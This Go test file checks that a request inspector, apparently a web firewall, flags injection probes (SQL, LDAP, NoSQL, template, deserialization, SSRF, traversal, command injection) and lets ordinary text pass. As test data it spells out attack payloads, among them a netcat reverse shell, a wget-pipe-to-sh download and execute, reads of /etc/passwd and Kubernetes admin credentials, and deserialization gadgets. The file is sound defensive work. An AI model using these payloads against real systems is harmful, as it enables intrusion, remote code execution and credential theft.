package inspect

import "testing"

// found gives the class of the surest finding of a value that counts, or "".
func found(in *Inspector, z Zone, name, value string) string {
	in.Begin([]byte("GET"))
	in.Value(z, []byte(name), []byte(value))
	if w := in.Worst(); w != nil && w.Confidence >= DefaultThreshold {
		return w.Class.String()
	}
	return ""
}

func TestProbesOfListsAreNamed(t *testing.T) {
	in := New()
	for _, c := range []struct{ name, value, class string }{
		{"quotes and brackets that fit nothing", `'")`, "sqli"},
		{"a string is split in two", "lamp'+'", "sqli"},
		{"a number, then a comment", "7-- -", "sqli"},
		{"quotes around a product", "'*1*'", "sqli"},
		{"quotes that are equal", "a'=''or'", "sqli"},
		{"a value is cast", `1 or '{"a":1}'::jsonb ? 'a'`, "sqli"},
		{"a filter for everybody's password", "(&(uid=joe)(userPassword=*))", "ldap"},
		{"a filter is cut off", "joe*\x00", "ldap"},
		{"a query of XML returns all", "') return //*; (:", "xpath"},
		{"an operator that is always true", `{"$gt":""}`, "nosqli"},
		{"a script compares fields", "function(){return this.a==this.b}", "nosqli"},
		{"a string times a number in braces", "{7*'7'}", "ssti"},
		{"Spring's properties", "#{systemProperties['user.dir']}", "el"},
		{"a type's method", `T(java.net.InetAddress).getByName("x.test")`, "el"},
		{"a driver that makes objects", "jdbc:mysql://x.test/a?autoDeserialize=true", "deserialization"},
		{"a tag of Ruby", "--- !ruby/hash:A::B", "deserialization"},
		{"a .NET object in a view's state", "/wEyxBEAAQAAAP////8BAAAAAAAAAAwCAAAA", "deserialization"},
		{"Azure's own address", "http://168.63.129.16/machine", "ssrf"},
		{"a mailbox", "/var/mail/www-data", "traversal"},
		{"a cluster's secrets", "/etc/kubernetes/admin.conf", "traversal"},
		{"the ending is cut off", "a.php\x00.jpg", "traversal"},
		{"a cmdlet behind a separator", "x& powershell Start-Sleep -s 5", "cmdi"},
		{"a case within arithmetic", "'-(case when a regexp '^b' then 0 else 1 end)-'", "sqli"},
		{"a union with plus signs for spaces", "-1'+union+all+select+1,a,3+from+b", "sqli"},
		{"a statement that waits", "; waitfor delay '0:0:5'--", "sqli"},
		{"a directory behind text", "photo ldap://x.test:1389/a", "ssrf"},
		{"signs that filters are made of", "x*()|&'", "ldap"},
		{"any node", "'or/*/a[1]='b", "xpath"},
		{"a mail's end and its text", "x\r\nSubject: you won\r\n\r\nhello", "mail"},
		{"an answer of its own", "x\r\nHTTP/1.1 200 OK", "crlf"},
		{"a script in a link of Markdown", "[a]: javascript:b", "xss"},
		{"a call by a spelled name", "; & ('i'+'ex') 'whoami'", "cmdi"},
		{"a file to include, the rest cut off", "http://x.test/a.txt?", "traversal"},
		{"a type of .NET behind a separator", "x;[System.Net.Dns]::GetHostAddresses('x.test')", "cmdi"},
	} {
		t.Run(c.name, func(t *testing.T) {
			if got := found(in, ZoneQuery, "viewstate", c.value); got != c.class {
				t.Errorf("%q counts as %q, want %s", c.value, got, c.class)
			}
		})
	}
}

func TestWhatPeopleReportPasses(t *testing.T) {
	in := New()
	for _, c := range []struct{ name, field, value string }{
		{"a condition in a sentence", "description", "the field id=1' OR '1'='1 shows orders of other customers"},
		{"a mail as it came", "body", "From: a@b.test\r\nTo: c@d.test\r\nSubject: hi\r\n\r\nhello"},
		{"an answer of a server", "body", "HTTP/1.1 500 Internal Server Error\nContent-Type: text/html"},
		{"a trace of calls", "body", "java.lang.RuntimeException: x\n\tat java.base/java.lang.Thread.run(Thread.java:840)"},
		{"a Dockerfile", "body", "FROM debian:12\nRUN apt-get update && rm -rf /var/lib/apt/lists/*"},
		{"a makefile", "body", "clean:\n\trm -rf build/ $(shell find . -name '*.o')"},
		{"a change of a script", "body", "-    rm -rf /tmp/build\n+    make clean"},
		{"a prompt", "body", `PS C:\> Get-Service | Where-Object {$_.Status -eq 'Stopped'}`},
		{"a pipeline of cmdlets", "body", `Get-ChildItem -Path C:\Temp | Remove-Item`},
		{"a filter of jq", "filter", `map(select(.status == "open")) | length`},
		{"an apostrophe within quotation marks", "jql", `text ~ "can't log in" AND created >= -7d`},
		{"a table", "note", "| id | name |\n|----|------|\n| 7 | pen |"},
		{"a word in quotation marks", "title", `the "or" gate`},
		{"two words in quotation marks", "note", "Try 'red' or 'blue' -- both will do."},
		{"a wish", "note", "Please update the table in the hall and select a new lamp."},
		{"a question about a database", "note", "What does WAITFOR DELAY do?"},
		{"a pipe into a filter", "note", "On Windows open a window and enter ipconfig | findstr IPv4"},
		{"commands in a sentence", "note", "ping takes me 30 ms; traceroute shop.test shows twelve hops."},
		{"lines of statements", "note", "CREATE TABLE pets (age INT);\nINSERT INTO pets VALUES (1);"},
		{"a path into a document", "path", "$..a[*]['b','c']"},
		{"a filter of a directory", "filter", "(&(a=b)(|(c=d)(e=f)))"},
		{"an address of a mailbox", "url", "mailto:a@b.test?subject=hi"},
		{"an application that listens", "url", "https://x.test/auth?redirect_uri=http://127.0.0.1:8123/cb"},
		{"a script with a head", "note", "#!/bin/sh\nset -eu\nfor f in *.txt; do\n  wc -l \"$f\"\ndone"},
		{"commands of a modem", "body", "GPIO17=1; AT+CSQ;"},
	} {
		t.Run(c.name, func(t *testing.T) {
			if got := found(in, ZoneJSON, c.field, c.value); got != "" {
				t.Errorf("%q counts as %s", c.value, got)
			}
		})
	}
}

func TestAFilesStructureIsNoWayAround(t *testing.T) {
	in := New()
	for _, value := range []string{
		"a:\n\tmake b\n\t; cat /etc/passwd", "FROM a\nRUN b\nRUN x; nc 192.0.2.1 4444 -e /bin/sh", "-a\n+b\n+`curl x.test`",
		"| a |\n|---|\n; id\n", "#!/bin/sh\nset -eu\n\tcd a\n\twget http://x.test/y|sh",
	} {
		if got := found(in, ZoneJSON, "text", value); got != "cmdi" {
			t.Errorf("%q counts as %q", value, got)
		}
	}
}

func TestStreamsOfObjectsAreFoundWhateverTheirType(t *testing.T) {
	in := New()
	for name, body := range map[string]string{
		"java-stream": "\xac\xed\x00\x05sr\x00\x11java", "net-formatter": "\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00",
		"python-pickle": "\x80\x04\x95\x1a\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix",
	} {
		in.Begin([]byte("POST"))
		b := in.Body([]byte("application/octet-stream"))
		b.Feed([]byte(body))
		b.End()
		if w := in.Worst(); w == nil || w.Rule != name {
			t.Errorf("%s: %+v", name, w)
		}
	}
}

func TestASentenceBehindACommentIsNoWayAround(t *testing.T) {
	in := New()
	for _, value := range []string{"x' or 1=1 -- and this is what I think of it", "x' or '1'='1' /* and this is what I think of it"} {
		if got := found(in, ZoneJSON, "text", value); got != "sqli" {
			t.Errorf("%q counts as %q", value, got)
		}
	}
}

func TestDocumentsInAQueryAreReadWhetherTheyAreEncodedOrNot(t *testing.T) {
	in := New()
	for _, target := range []string{"/graphql?query={__schema{types{name}}}", "/graphql?query=%7B__schema%7Btypes%7Bname%7D%7D%7D"} {
		in.Begin([]byte("GET"))
		in.Target([]byte(target))
		if w := in.Worst(); w == nil || w.Class != GraphQL {
			t.Errorf("%s: %+v", target, w)
		}
	}
}

func TestAPageOfAMillionIsAbuse(t *testing.T) {
	in := New()
	for query, want := range map[string]bool{"{users(first: 1000000){id}}": true, "{users(first: 1000){id}}": false, "{user(id: 1000000){id}}": false} {
		in.Begin([]byte("POST"))
		in.Target([]byte("/graphql?query=" + query))
		w := in.Worst()
		if got := w != nil && w.Class == GraphQL; got != want {
			t.Errorf("%s: %v, want %v", query, got, want)
		}
	}
}

func TestKeysOfPipelinesAndTypesOfGadgetsAreFound(t *testing.T) {
	in := New()
	for _, c := range []struct {
		name, body string
		class      Class
	}{
		{"a stage that joins", `{"$lookup":{"from":"users"}}`, NoSQL},
		{"a stage that adds a collection", `{"$unionWith":"users"}`, NoSQL},
		{"a stage that writes", `{"$out":"users"}`, NoSQL},
		{"a stage that merges", `{"$merge":"users"}`, NoSQL},
		{"a pool that looks up names", `{"@type":"com.zaxxer.hikari.HikariConfig"}`, Deserialization},
		{"a closure of Groovy", `{"@class":"org.codehaus.groovy.runtime.MethodClosure"}`, Deserialization},
		{"a descriptor of a class", `{"@type":"Lacme.Evil;"}`, Deserialization},
	} {
		t.Run(c.name, func(t *testing.T) {
			in.Begin([]byte("POST"))
			b := in.Body([]byte("application/json"))
			b.Feed([]byte(c.body))
			b.End()
			if w := in.Worst(); w == nil || w.Class != c.class || w.Confidence < DefaultThreshold {
				t.Errorf("%s: %+v", c.body, w)
			}
		})
	}
}
